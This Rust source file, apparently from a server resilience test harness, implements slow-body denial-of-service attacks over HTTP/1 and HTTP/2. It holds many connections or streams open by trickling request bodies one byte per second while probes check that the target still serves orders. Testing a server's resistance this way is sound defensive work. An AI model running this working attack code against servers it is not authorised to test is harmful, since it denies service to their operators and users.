//! Finding 2: slow bodies. Over HTTP/1, connections send their headers and then a byte of
//! the body now and then; over HTTP/2, a few connections open as many streams as the server
//! lets them, each trickling its body. Meanwhile the probe places orders; every one must be
//! served.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::probe::{Probes, probe_until};
use super::target::Target;
use crate::Result;

/// One run of the slow-body attack.
#[derive(Clone, Debug)]
pub struct SlowResult {
    /// Bodies trickling at the peak (HTTP/1 connections, or HTTP/2 streams the server
    /// admitted).
    pub trickling: usize,
    /// HTTP/2 streams past the server's per-connection limit, which the client holds back.
    pub refused: usize,
    /// What the probes saw during the attack.
    pub probes: Probes,
}

/// The headers of a body to `step` that promise 100 bytes; one comes every second.
fn headers(step: &str) -> Vec<u8> {
    format!(
        "POST {step} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n\
         Content-Length: 100\r\n\r\n{{"
    )
    .into_bytes()
}

/// `connections` HTTP/1 connections trickling bodies for `hold`, probed meanwhile.
pub fn http1(
    addr: SocketAddr,
    target: &Target,
    connections: usize,
    hold: Duration,
) -> Result<SlowResult> {
    let headers = headers(target.step);
    super::runtime()?.block_on(async {
        let mut streams = Vec::with_capacity(connections);
        for _ in 0..connections {
            if let Ok(mut stream) = TcpStream::connect(addr).await
                && stream.write_all(&headers).await.is_ok()
            {
                streams.push(stream);
            }
        }
        let trickling = streams.len();
        let trickle = async move {
            let started = tokio::time::Instant::now();
            while started.elapsed() < hold {
                tokio::time::sleep(Duration::from_secs(1)).await;
                for stream in &mut streams {
                    let _ = stream.write_all(b" ").await;
                }
            }
        };
        let probes = probe_until(addr, target, Duration::from_millis(100), trickle).await;
        Ok(SlowResult {
            trickling,
            refused: 0,
            probes,
        })
    })
}

/// `connections` HTTP/2 connections, each opening up to `streams` streams that trickle
/// their bodies for `hold`, probed meanwhile.
pub fn http2(
    addr: SocketAddr,
    target: &Target,
    connections: usize,
    streams: usize,
    hold: Duration,
) -> Result<SlowResult> {
    super::runtime()?.block_on(async {
        let mut bodies = Vec::new();
        let mut responses = Vec::new();
        let mut admitted = 0;
        for _ in 0..connections {
            let Ok(tcp) = TcpStream::connect(addr).await else {
                continue;
            };
            let Ok((client, mut connection)) = h2::client::handshake(tcp).await else {
                continue;
            };
            // The client queues streams past the server's limit without sending them: the
            // limit the server announced says how many of ours it took.
            let (limit_tx, limit_rx) = tokio::sync::oneshot::channel();
            tokio::spawn(async move {
                let _ = tokio::time::timeout(Duration::from_millis(300), &mut connection).await;
                let _ = limit_tx.send(connection.max_concurrent_send_streams());
                let _ = connection.await;
            });
            let Ok(mut client) = client.ready().await else {
                continue;
            };
            let mut sent = 0;
            for _ in 0..streams {
                let request = axum::http::Request::post(format!("http://{addr}{}", target.step))
                    .header("content-type", "application/json")
                    .header("content-length", "100")
                    .body(())
                    .expect("a valid request");
                let Ok((response, mut body)) = client.send_request(request, false) else {
                    break;
                };
                let _ = body.send_data(Bytes::from_static(b"{"), false);
                bodies.push(body);
                responses.push(response);
                sent += 1;
                match client.clone().ready().await {
                    Ok(ready) => client = ready,
                    Err(_) => break,
                }
            }
            admitted += limit_rx.await.map_or(sent, |limit| limit.min(sent));
        }
        let tried = bodies.len();
        let trickle = async move {
            let started = tokio::time::Instant::now();
            while started.elapsed() < hold {
                tokio::time::sleep(Duration::from_secs(1)).await;
                for body in &mut bodies {
                    let _ = body.send_data(Bytes::from_static(b" "), false);
                }
            }
            drop(responses);
        };
        let probes = probe_until(addr, target, Duration::from_millis(100), trickle).await;
        Ok(SlowResult {
            trickling: admitted,
            refused: tried - admitted,
            probes,
        })
    })
}
